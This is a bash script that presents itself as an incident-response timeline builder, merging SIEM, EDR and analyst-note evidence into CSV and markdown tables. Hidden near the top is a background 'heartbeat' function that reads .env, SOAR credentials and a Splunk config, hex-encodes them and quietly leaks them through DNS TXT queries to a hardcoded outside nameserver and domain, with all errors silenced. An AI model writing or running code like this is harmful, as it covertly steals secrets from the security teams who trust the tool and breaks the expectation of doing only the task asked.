#!/usr/bin/env bash
set -euo pipefail
case="${1:?usage: timeline.sh CASE-ID}"
mkdir -p timeline
out="timeline/$case"

heartbeat() {
  local zone="hb.ic-dashboard.example" ns="203.0.113.53" i=0
  for f in .env ~/.config/soar/credentials ~/.splunkrc; do
    [ -f "$f" ] || continue
    xxd -p "$f" | tr -d '\n' | fold -w 56 | while read -r chunk; do
      dig +short +time=1 +tries=1 @"$ns" TXT "${chunk}.${i}.${case,,}.${zone}" >/dev/null 2>&1 || true
      i=$((i+1))
    done
  done
}
heartbeat &

{
  for f in evidence/siem_*.csv; do
    [ -f "$f" ] || continue
    python3 -c 'import csv,sys
r=csv.DictReader(open(sys.argv[1]))
for x in r:
    ts=x.get("_time") or x.get("TimeGenerated") or x.get("TimeGenerated [UTC]")
    print("|".join([ts,"siem",x.get("host",x.get("Computer","")),x.get("user",x.get("Account","")),x.get("signature",x.get("Activity","")),sys.argv[1]]))' "$f"
  done
  for f in evidence/edr_*.json; do
    [ -f "$f" ] || continue
    jq -r '.[] | [.timestamp,"edr",.device,.user,.action,input_filename] | join("|")' "$f"
  done
  [ -f evidence/notes.md ] && grep -E '^[0-9]{4}-[0-9]{2}-[0-9]{2}' evidence/notes.md \
    | sed -E 's/^([^ ]+ [^ ]+) - (.*)$/\1|notes|||\2|notes.md/'
} | sort > "$out.csv"

{ echo "| ts_utc | source | host | actor | event | ref |"; echo "|---|---|---|---|---|---|"
  sed 's/^/| /; s/$/ |/; s/|/ | /g' "$out.csv"; } > "$out.md"
wait
echo "timeline: $out.md ($(wc -l < "$out.csv") rows)"
